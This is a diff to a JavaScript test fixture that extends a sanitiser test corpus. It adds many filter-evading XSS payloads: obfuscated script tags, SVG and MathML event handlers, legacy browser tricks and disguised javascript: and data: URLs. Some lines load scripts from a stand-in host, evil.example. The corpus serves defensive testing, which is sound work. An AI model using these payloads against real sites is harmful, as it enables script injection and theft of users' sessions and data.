@@ -1,5 +1,5 @@
 // Texts that have broken other sites: the Big List of Naughty Strings, and ways to run a script that sanitisers have let
-// through. Each carries a mark, so that what ran can be told.
+// through or that scanners try: out of every place, of every generation of browser. Each carries a mark, so that what ran can be told.
 
 import { createRequire } from "node:module";
 
@@ -71,8 +71,59 @@ export const scripts = [
 	"あ".repeat(190),
 ];
 
+/** What ends the place that a text may have been put in by mistake: an attribute, an element of raw text, a comment, a script. */
+const ways_out = [
+	"", "\">", "'>", "`>", ">", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</option></select>", "</iframe>",
+	"</xmp>", "-->", "--!>", "]]>", "*/", "\";", "';", "\\\";", "\n", "\u0000",
+];
+
+/** What would run where markup is taken as it is: elements and handlers of every generation, written so that filters miss them. */
+const runs = [
+	"<sCrIpT>ran()</ScRiPt>", "<script\t>ran()</script\n>", "<script/x>ran()</script>", "<<script>ran();//<</script>", "<script>ran()",
+	"<scr<script>ipt>ran()</scr</script>ipt>", "<scr\u0000ipt>ran()</script>", "<script x=\">\">ran()</script>",
+	"<svg><script>ran()</script></svg>", "<svg><script href=data:,ran()></script></svg>", "<svg><animate onbegin=ran() attributeName=x dur=1s>",
+	"<svg><set attributeName=onmouseover to=ran()>", "<svg><a xlink:href=javascript:ran()><text y=9>x</text></a></svg>",
+	"<svg><use href=data:image/svg+xml,x#x></svg>", "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
+	"<math href=javascript:ran()>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>",
+	"<math><annotation-xml encoding=text/html><img src=x onerror=ran()></annotation-xml></math>",
+	"<img src=x onerror\n=\nran()>", "<img src=x oNeRrOr=ran()>", "<img src=x onerror=&#114;an()>", "<img src=x onerror=\"ran()\"", "<img\fsrc=x\fonerror=ran()>",
+	"<img src=\"x\"onerror=\"ran()\">", "<img src='x''onerror='ran()'>", "<img `src`=x onerror=ran()>", "<img dynsrc=javascript:ran()>",
+	"<img lowsrc=javascript:ran()>", "<img srcset=x,javascript:ran() onerror=ran()>", "<picture><source srcset=x onerror=ran()><img onerror=ran() src=x></picture>",
+	"<input type=image src=x onerror=ran()>", "<button formaction=javascript:ran()>x</button>", "<isindex type=image src=x onerror=ran()>",
+	"<select autofocus onfocus=ran()><option>x</select>", "<textarea autofocus onfocus=ran()>x</textarea>", "<keygen autofocus onfocus=ran()>",
+	"<marquee onstart=ran()>x</marquee>", "<audio src onloadstart=ran()>", "<video poster=javascript:ran()></video>", "<bgsound src=javascript:ran()>",
+	"<frameset onload=ran()>", "<iframe src=&#x6a;avascript:parent.ran()>", "<iframe srcdoc=&lt;script&gt;parent.ran()&lt;/script&gt;>",
+	"<object type=text/html data=data:text/html,x></object>", "<applet code=javascript:ran()></applet>", "<layer src=javascript:ran()>x</layer>",
+	"<table background=javascript:ran()><td background=javascript:ran()>x</table>", "<body background=javascript:ran()>",
+	"<div style=width:expression(ran())>x</div>", "<div style=behavior:url(#default#time2) onbegin=ran()>x</div>",
+	"<div style=-moz-binding:url(//evil.example/x.xml#x)>x</div>", "<div style=list-style:url(javascript:ran())>x</div>",
+	"<link rel=import href=//evil.example/x>", "<link rel=preload as=script href=//evil.example/x.js>", "<?xml-stylesheet href=javascript:ran()?>",
+	"<!--[if gte IE 4]><script>ran()</script><![endif]-->", "<!--><img src=x onerror=ran()>-->", "<![CDATA[<img src=x onerror=ran()>]]>",
+	"<p/onclick=ran()>x</p>", "<p onclick\u00a0=ran()>x</p>", "<p contenteditable onbeforeinput=ran()>x</p>", "<x onpointerenter=ran() style=display:block>x</x>",
+	"<dialog open onclose=ran()><form method=dialog><button autofocus>x</button></form></dialog>", "<p popover id=p onbeforetoggle=ran()>x</p>",
+	"<base target=_blank href=javascript:ran()//>", "<slot onslotchange=ran()>x</slot>", "<details/open/ontoggle=ran()>", "<plaintext>ran()",
+	"+ADw-script+AD4-ran()+ADw-/script+AD4-", "\u00bcscript\u00beran()\u00bc/script\u00be",
+];
+
+/** Addresses that would run: the scheme broken up, hidden, or of another kind. */
+const addresses = [
+	"javascript:ran()", "JAVASCRIPT:ran()", " javascript:ran()", "\u0001javascript:ran()", "java\nscript:ran()", "java\u0000script:ran()",
+	"javascript\u00a0:ran()", "javascript&#58;ran()", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:ran()", "javascript&Tab;:ran()",
+	"jav&#x09;ascript:ran()", "javascript://%0aran()", "feed:javascript:ran()", "view-source:javascript:ran()", "livescript:ran()", "mocha:ran()",
+	"data:text/html,<script>ran()</script>", "data:image/svg+xml,<svg onload=ran()>", "data:application/xhtml+xml;base64,PHg+", "blob:null/x",
+	"filesystem:x", "jar:javascript:ran()", "\\\\evil.example\\x", "/\\evil.example", "https:evil.example", "//evil.example\\@x",
+];
+
+/** Every way out with one thing that runs, everything that runs alone, and every address where an address can stand. */
+const composed = [
+	...ways_out.map((out, at) => `${out}${runs[(at * 7) % runs.length]}`),
+	...runs,
+	...addresses.flatMap((to) => [`[x](${to})`, `<a href="${to}">x</a>`]),
+	...addresses.map((to) => `![x](<${to}>) [x]: <${to}> "onerror=ran()"`),
+];
+
 /** The Big List, without the one string that only asks a screen reader to say something long. */
 const naughty = createRequire(import.meta.url)("big-list-of-naughty-strings/blns.json").filter((text) => text.trim() !== "");
 
 /** All of them, ours first. */
-export const hostile = [...scripts, ...naughty];
+export const hostile = [...scripts, ...composed, ...naughty];
